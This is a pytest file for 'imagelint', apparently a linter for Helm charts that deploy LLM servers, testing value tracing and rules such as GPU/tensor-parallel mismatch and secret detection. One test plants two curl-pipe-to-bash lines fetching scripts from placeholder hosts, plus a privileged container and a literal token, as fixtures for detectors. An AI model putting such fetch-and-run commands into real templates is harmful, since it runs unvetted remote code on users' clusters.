"""Charts are rendered by the real engine, and what they make is placed in their templates."""

from __future__ import annotations

import sys
from typing import TYPE_CHECKING

import pytest

from imagelint.core.report import ProblemKind
from imagelint.documents.rendering.rendered import RenderedChart
from imagelint.render import helm
from imagelint.render.helm import ChartFiles, ChartValues, HelmEngine, helm_engine
from imagelint.run.rendering.deployed import RUN, NamedImage, named_images
from tests.renderers import LIBRARIES
from tests.run.test_kustomizations import Said, check, said

if TYPE_CHECKING:
    from pathlib import Path

    from tests.conftest import Program

CHART = "apiVersion: v2\nname: llm\nversion: 0.1.0\n"
VALUES = """\
image: {repository: vllm/vllm-openai, tag: v0.30.0}
tensorParallel: 2
resources:
  limits:
    nvidia.com/gpu: 2
"""
HELPERS = """\
{{- define "llm.labels" -}}
app: {{ .Chart.Name }}
{{- end }}
"""
TEMPLATE = """\
apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ .Release.Name }}-llm
  labels:
    {{- include "llm.labels" . | nindent 4 }}
spec:
  template:
    spec:
      containers:
        - name: llm
          image: "{{ .Values.image.repository }}:{{ .Values.image.tag }}"
          args:
            - --model=/m
            - --tensor-parallel-size={{ .Values.tensorParallel }}
          resources:
            {{- toYaml .Values.resources | nindent 12 }}
          volumeMounts:
            - {name: m, mountPath: /m}
            - {name: shm, mountPath: /dev/shm}
      volumes:
        - {name: m, persistentVolumeClaim: {claimName: m}}
        - {name: shm, emptyDir: {medium: Memory}}
"""


@pytest.fixture
def engine(monkeypatch: pytest.MonkeyPatch) -> None:
    """The library, whatever programs there are."""
    assert (LIBRARIES / "helm_python").is_dir(), "run `make tools`"
    monkeypatch.syspath_prepend(str(LIBRARIES))


def chart(root: Path, **changed: str) -> None:
    files = {
        "llm/Chart.yaml": CHART,
        "llm/values.yaml": VALUES,
        "llm/templates/_helpers.tpl": HELPERS,
        "llm/templates/deployment.yaml": TEMPLATE,
    }
    files.update({f"llm/{name.replace('__', '/')}.yaml": text for name, text in changed.items()})
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")


def test_a_good_chart_has_no_finding(here: Path, program: Program, engine: None) -> None:
    chart(here)
    assert check(program, "tp-vs-gpus", code=0) == []


def test_what_a_chart_runs_is_known_without_a_word_about_its_templates(
    here: Path, engine: None
) -> None:
    chart(here)
    (found,) = named_images(["."], RUN)
    assert isinstance(found, NamedImage)
    assert found.reference == "vllm/vllm-openai:v0.30.0"


def test_what_values_set_is_found_in_the_template(
    here: Path, program: Program, engine: None
) -> None:
    chart(here, values=VALUES.replace("Parallel: 2", "Parallel: 4"))
    assert check(program, "tp-vs-gpus") == [Said("llm/templates/deployment.yaml", 15, "tp-vs-gpus")]
    answer = program("check", "--no-cache", "--only", "tp-vs-gpus", ".")
    assert "`.Values.tensorParallel` is set here\n" in answer.out
    assert " --> llm/values.yaml:2:1\n" in answer.out
    assert "in what `llm/Chart.yaml` makes" in answer.out


SETTINGS = """\
apiVersion: v1
kind: ConfigMap
metadata: {name: settings}
data:
{{- range $name, $value := .Values.settings }}
  {{ $name }}: {{ $value | quote }}
{{- end }}
"""


def test_a_note_leads_to_the_value_that_a_variable_has(
    here: Path, program: Program, engine: None
) -> None:
    chart(here, values=f"{VALUES}settings:\n  WAIT: 5\n  PORT: 9000\n")
    template = here / "llm/templates/deployment.yaml"
    text = template.read_text(encoding="utf-8")
    container = "        - name: llm\n"
    assert container in text
    probe = "readinessProbe: {httpGet: {path: /health, port: 8000}}"
    told = (
        f"{container}          envFrom: [{{configMapRef: {{name: settings}}}}]\n          {probe}\n"
    )
    text = text.replace(container, told).replace("args:\n", "args:\n            - --port=$(PORT)\n")
    template.write_text(text, encoding="utf-8")
    (here / "llm/templates/settings.yaml").write_text(SETTINGS, encoding="utf-8")
    answer = program("check", "--no-cache", "--only", "probe-port-mismatch", ".")
    assert "9000 is told here\n" in answer.out
    assert "`PORT` is set here\n" in answer.out
    assert " --> llm/templates/settings.yaml:6:3\n" in answer.out
    assert " --> llm/values.yaml:8:3\n" in answer.out


CLAIM = """\
{{- range $one := .Values.claims }}
apiVersion: v1
kind: PersistentVolumeClaim
metadata: {name: llm}
spec:
  accessModes: [ReadWriteOnce]
  resources:
    requests:
      storage: {{ $one.capacity }}
---
{{- end }}
apiVersion: v1
kind: Pod
metadata: {name: llm}
spec:
  volumes:
    - name: "{{ .Values.bucket.name }}"
      emptyDir: {}
  containers: [{name: llm, image: "example.com/llm:1"}]
"""
SERVICE = """\
apiVersion: v1
kind: Service
metadata: {name: llm}
spec:
  ports:
  {{- range $port := .Values.server.ports }}
    - {name: "{{ $port.name }}", port: "{{ $port.value }}"}
  {{- end }}
  selector: {app: llm}
"""
NO_PORTS = """\
apiVersion: v1
kind: Service
metadata: {name: llm}
spec:
  ports:
  type: ClusterIP
  selector: {app: llm}
"""
OPEN = "claims: [{capacity: }]\nbucket: {name: ''}\n"


@pytest.mark.parametrize(
    ("values", "template", "line"),
    [
        (OPEN, CLAIM, 0),
        ("server: {ports: []}\n", SERVICE, 0),
        ("server: {ports: {}}\n", SERVICE, 0),
        # Values that are nowhere are mistakes of the template.
        ("server: {port: []}\n", SERVICE, 4),
        ("server: {ports: []}\n", NO_PORTS, 4),
        (OPEN.replace("capacity", "size"), CLAIM, 7),
        (OPEN.replace("name", "title"), CLAIM, 17),
        # So are fields that are empty without a value.
        (OPEN, CLAIM.replace('"{{ .Values.bucket.name }}"', '""'), 17),
        (OPEN, CLAIM.replace("storage: {{ $one.capacity }}", "cpu: 1"), 7),
    ],
)
@pytest.mark.usefixtures("engine")
def test_a_field_whose_value_waits_for_who_installs_is_not_missing(
    here: Path, program: Program, values: str, template: str, line: int
) -> None:
    chart(here, values=values, templates__deployment=template)
    told = check(program, "missing-field", code=int(line > 0))
    assert told == ([Said("llm/templates/deployment.yaml", line, "missing-field")] if line else [])


IMAGE = """\
apiVersion: v1
kind: Pod
metadata: {name: llm}
spec:
  containers:
    - name: llm
      image: "{{ .Values.image.name }}:{{ .Values.image.tag }}"
      ports:
      {{- range .Values.ports }}
        - {name: "{{ .name }}", containerPort: "{{ .port }}"}
      {{- end }}
      readinessProbe: {httpGet: {path: /health, port: http}}
"""
WAITING = "image: {name: '', tag: ''}\nports: []\n"


@pytest.mark.parametrize(
    ("values", "template", "lines"),
    [
        (WAITING, IMAGE, []),
        (WAITING.replace("tag: ''", "tag: v1"), IMAGE, []),
        (WAITING.replace("name: ''", "name: a/b"), IMAGE, [7]),
        (WAITING.replace("name: ''", "title: ''").replace("tag: ''", "t: ''"), IMAGE, [7]),
        (WAITING.replace("ports", "others"), IMAGE, [12]),
        ("image: {name: a/b, tag: v1}\nports: [{name: web, port: 80}]\n", IMAGE, [12]),
        ("image: {name: a/b, tag: v1}\nports: [{name: http, port: 80}]\n", IMAGE, []),
    ],
)
@pytest.mark.usefixtures("engine")
def test_images_and_ports_that_wait_for_who_installs_are_not_known(
    here: Path, program: Program, values: str, template: str, lines: list[int]
) -> None:
    chart(here, values=values, templates__deployment=template)
    told = check(program, "invalid-image-reference", "undeclared-probe-port", code=int(bool(lines)))
    assert [one.line for one in told] == lines


def test_each_file_of_values_makes_its_own(here: Path, program: Program, engine: None) -> None:
    chart(here, **{"values-prod": "resources: {limits: {nvidia.com/gpu: 1}}\n"})
    answer = program("check", "--no-cache", "--only", "tp-vs-gpus", ".")
    assert answer.code == 1
    assert answer.out.count("high[tp-vs-gpus]") == 1
    assert "in what `llm/Chart.yaml` with `values-prod.yaml` makes" in answer.out
    assert "in what `llm/Chart.yaml` makes" not in answer.out


def test_what_a_script_does_is_found_at_its_line(
    here: Path, program: Program, engine: None
) -> None:
    script = """\
          command: [sh, -c]
          args:
            - |
              set -e
              {{- if .Values.tensorParallel }}
              echo {{ .Values.tensorParallel }}
              {{- end }}
              curl http://a.example/{{ .Values.image.tag }}.sh | bash
              curl http://b.example/i.sh | bash
"""
    template = TEMPLATE.replace(TEMPLATE[TEMPLATE.index("          args:") :], script)
    chart(here, templates__deployment=template)
    found = check(program, "curl-pipe-shell")
    template = "llm/templates/deployment.yaml"
    assert found == [Said(template, line, "curl-pipe-shell") for line in (20, 21)]
    answer = program("check", "--no-cache", "--only", "curl-pipe-shell", ".")
    assert answer.out.count("`.Values.image.tag` is set here") == 1
    assert ".Values.tensorParallel" not in answer.out


def test_a_value_of_a_block_is_found_by_its_key(here: Path, program: Program, engine: None) -> None:
    template = TEMPLATE.replace(
        "          args:",
        "          securityContext:\n"
        "            {{- toYaml .Values.securityContext | nindent 12 }}\n          args:",
    )
    values = VALUES + "securityContext:\n  runAsUser: 1000\n  privileged: true\n"
    chart(here, values=values, templates__deployment=template)
    found = check(program, "privileged-container")
    assert found == [Said("llm/templates/deployment.yaml", 14, "privileged-container")]
    answer = program("check", "--no-cache", "--only", "privileged-container", ".")
    assert "llm/values.yaml:8:3" in answer.out


def test_a_template_that_makes_nothing_is_not_called_examined(
    here: Path, program: Program, engine: None
) -> None:
    chart(here, templates__debug=f"{{{{- if .Values.debug }}}}\n{TEMPLATE}{{{{- end }}}}\n")
    answer = program("check", "--no-cache", "--only", "tp-vs-gpus", ".")
    assert answer.code == 0
    assert "1 templates that make nothing with their values" in answer.out


def test_a_comment_in_a_template_allows(here: Path, program: Program, engine: None) -> None:
    comment = "            # imagelint: allow tp-vs-gpus -- two nodes\n"
    flag = "            - --tensor"
    allowed = TEMPLATE.replace(flag, comment + flag)
    chart(
        here,
        values=VALUES.replace("Parallel: 2", "Parallel: 4"),
        templates__deployment=allowed,
    )
    assert check(program, "tp-vs-gpus", code=0) == []


DRAWN = """\
{{- $ca := genCA "llm-ca" 365 }}
{{- $password := randAlphaNum 24 }}
apiVersion: v1
kind: Secret
metadata: {name: llm}
data:
  tls.key: {{ $ca.Key | b64enc }}
  password: {{ randAlphaNum 32 | b64enc }}
stringData:
  ca.key: |
    {{- $ca.Key | nindent 4 }}
  session_secret: {{ .Values.session | default $password | quote }}
  api_token: tulip-harbour-42
---
apiVersion: v1
kind: Pod
metadata: {name: llm}
spec:
  containers:
    - name: llm
      image: vllm/vllm-openai:v0.30.0
      args:
        - --api-key={{ randAlphaNum 32 }}
"""


def test_what_a_chart_draws_at_random_is_written_nowhere(
    here: Path, program: Program, engine: None
) -> None:
    """A key that each installation draws for itself is no secret of the chart, a word in it is."""
    chart(here, templates__secret=DRAWN)
    rules = ("secret-in-config", "secret-value", "secret-in-args", "literal-secret-env")
    only = [word for rule in rules for word in ("--only", rule)]
    answer = program("check", "--no-cache", "--format", "concise", *only, ".")
    found = [said(line) for line in answer.out.splitlines() if "[" in line]
    assert found == [Said("llm/templates/secret.yaml", 13, "secret-in-config")]


def test_what_is_drawn_is_open_whoever_renders(here: Path, engine: None, tmp_path: Path) -> None:
    chart(here, templates__secret=DRAWN)
    files = ChartFiles.read(str(here / "llm"), "llm/Chart.yaml", str(here))
    assert isinstance(files, ChartFiles)
    for one in (helm_engine("x"), real_program(tmp_path)):
        assert isinstance(one, HelmEngine)
        (rendered,) = one.render(files, (ChartValues(),), "x")
        assert isinstance(rendered, RenderedChart)
        made = next(file for file in rendered.files if file.template.endswith("secret.yaml"))
        assert 'tls.key: "{{ drawn }}"' in made.text
        assert 'password: "{{ drawn }}"' in made.text
        assert "api_token: tulip-harbour-42" in made.text
        assert len(made.lines) == made.text.count("\n") + 1


def test_charts_within_are_rendered_with_the_outer_one(
    here: Path, program: Program, engine: None
) -> None:
    inner = TEMPLATE.replace("llm.labels", "inner.labels").replace(
        "{{ .Values.tensorParallel }}", "4"
    )
    chart(
        here,
        charts__inner__Chart=CHART.replace("llm", "inner"),
        charts__inner__values=VALUES,
        charts__inner__templates__d=inner.replace(
            '    {{- include "inner.labels" . | nindent 4 }}\n', "    app: inner\n"
        ),
    )
    assert check(program, "tp-vs-gpus") == [
        Said("llm/charts/inner/templates/d.yaml", 15, "tp-vs-gpus")
    ]


@pytest.mark.parametrize(
    ("template", "words"),
    [
        ('a: {{ required "the model is missing" .Values.model }}\n', "the model is missing"),
        ("a: {{ .Values.x.y.z }}\n", "nil pointer"),
        ('a: {{ include "nowhere" . }}\n', "nowhere"),
        ('{{- define "a" }}{{ include "a" . }}{{ end }}a: {{ include "a" . }}\n', "helm"),
        ("{{ if }}\n", "helm"),
    ],
)
def test_what_cannot_be_rendered_is_a_problem_in_the_words_of_the_chart(
    here: Path, program: Program, engine: None, template: str, words: str
) -> None:
    chart(here, templates__broken=template)
    answer = program("check", "--no-cache", "--only", "tp-vs-gpus", ".")
    assert answer.code == 3
    assert words in answer.out + answer.err


NEEDS_OTHERS = "dependencies: [{name: common, version: 1.0.0, repository: 'file://../common'}]\n"


@pytest.mark.usefixtures("engine")
def test_one_reason_is_one_problem_and_what_is_missing_is_named(
    here: Path, program: Program
) -> None:
    chart(
        here,
        Chart=CHART + NEEDS_OTHERS,
        templates__deployment='a: {{ include "common.name" . }}\n{{ fail .Values.why }}\n',
        ci__one="a: 1\n",
        ci__two="a: 2\n",
    )
    answer = program("check", "--no-cache", "--only", "tp-vs-gpus", ".")
    assert answer.code == 3
    assert answer.out.count("helm does not render it") == 1
    assert "(nor with 2 other files of values)" in answer.out
    assert "`charts/common` is not there" in answer.out
    assert "helm dependency build" in answer.out


@pytest.mark.usefixtures("engine")
def test_each_reason_is_a_problem_of_its_own(here: Path, program: Program) -> None:
    chart(
        here,
        templates__deployment="{{ if .Values.why }}{{ fail .Values.why }}{{ end }}a: 1\n",
        ci__one="why: one\n",
        ci__two="why: two\n",
        ci__also="why: two\n",
    )
    answer = program("check", "--no-cache", "--only", "tp-vs-gpus", ".")
    assert answer.out.count("helm does not render it") == 2
    assert answer.out.count("(nor with 1 other file of values)") == 1


def test_a_chart_that_prints_without_end_is_stopped(
    here: Path, program: Program, engine: None
) -> None:
    endless = '{{ range $i := until 100000 }}{{ repeat 100000 "x" }}{{ end }}\n'
    chart(here, templates__endless=endless)
    answer = program("check", "--no-cache", "--only", "tp-vs-gpus", ".")
    assert answer.code == 3
    assert "llm/Chart.yaml" in answer.out + answer.err


def test_a_library_makes_nothing_itself(here: Path, program: Program, engine: None) -> None:
    chart(here, Chart=CHART + "type: library\n")
    answer = program("check", "--no-cache", "--only", "tp-vs-gpus", "llm/Chart.yaml")
    assert answer.code == 0


def test_without_an_engine_one_problem_tells_how_to_get_it(
    here: Path, program: Program, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(helm, "_packages", lambda: "")
    monkeypatch.setenv("PATH", str(tmp_path / "nothing"))
    chart(here)
    answer = program("check", "--no-cache", "--only", "tp-vs-gpus", ".")
    assert answer.code == 3
    assert (answer.out + answer.err).count("nothing here can render them") == 1
    assert "imagelint[helm]" in answer.out + answer.err


def test_links_out_of_the_chart_are_not_read(here: Path, engine: None, tmp_path: Path) -> None:
    chart(here)
    (tmp_path / "secret.yaml").write_text("password: x\n", encoding="utf-8")
    (here / "llm" / "templates" / "link.yaml").symlink_to(tmp_path / "secret.yaml")
    found = ChartFiles.read(str(here / "llm"), "llm/Chart.yaml", str(here))
    assert isinstance(found, ChartFiles)
    assert "templates/link.yaml" not in found.texts


def real_program(folder: Path) -> HelmEngine:
    """A program `helm` that is the real engine: the library behind its command line."""
    script = f"""#!{sys.executable}
import sys
from pathlib import Path
sys.path.append({str(LIBRARIES)!r})
from helm_python.chart import Chart, values_from_yaml
from helm_python.errors import HelmError
_, _, name, form, _, namespace, *given = sys.argv
values = {{}}
for path in given[1::2]:
    values.update(values_from_yaml(Path(path).read_text()))
try:
    with Chart.load(form) as chart:
        made = chart.render(values, name=name, namespace=namespace)
except HelmError as error:
    sys.exit(str(error))
for path in sorted(made):
    if made[path].strip():
        print(f"---\\n# Source: {{path}}\\n{{made[path]}}")
"""
    path = folder / "helm"
    path.write_text(script, encoding="utf-8")
    path.chmod(0o755)
    return HelmEngine(str(path))


def test_program_and_library_place_the_same(here: Path, engine: None, tmp_path: Path) -> None:
    chart(here, **{"values-prod": "tensorParallel: 8\n"})
    files = ChartFiles.read(str(here / "llm"), "llm/Chart.yaml", str(here))
    library = helm_engine("x")
    assert isinstance(files, ChartFiles)
    assert isinstance(library, HelmEngine)
    assert library.packages
    values = (ChartValues(), ChartValues("values-prod.yaml", ("tensorParallel: 8\n",)))
    one = library.render(files, values, "x")
    two = real_program(tmp_path).render(files, values, "x")
    for mine, other in zip(one, two, strict=True):
        assert not hasattr(mine, "detail")
        assert not hasattr(other, "detail")
        (first,), (second,) = mine.files, other.files
        assert first.template == second.template
        lines = zip(first.text.split("\n"), first.lines, strict=True)
        again = dict(zip(second.text.split("\n"), second.lines, strict=True))
        assert all(again[line] == where for line, where in lines if line.strip())


def test_a_program_that_fails_says_why(here: Path, tmp_path: Path) -> None:
    chart(here)
    path = tmp_path / "helm"
    path.write_text("#!/bin/sh\necho 'Error: no such chart' >&2\nexit 1\n", encoding="utf-8")
    path.chmod(0o755)
    files = ChartFiles.read(str(here / "llm"), "llm/Chart.yaml", str(here))
    assert isinstance(files, ChartFiles)
    (problem,) = HelmEngine(str(path)).render(files, (ChartValues(),), "llm/Chart.yaml")
    assert getattr(problem, "kind", None) is ProblemKind.UNPARSABLE
    assert "no such chart" in getattr(problem, "detail", "")


def test_lines_of_the_concise_format_are_read() -> None:
    assert said("a/b.yaml:3:1: high[root-user] x") == Said("a/b.yaml", 3, "root-user")
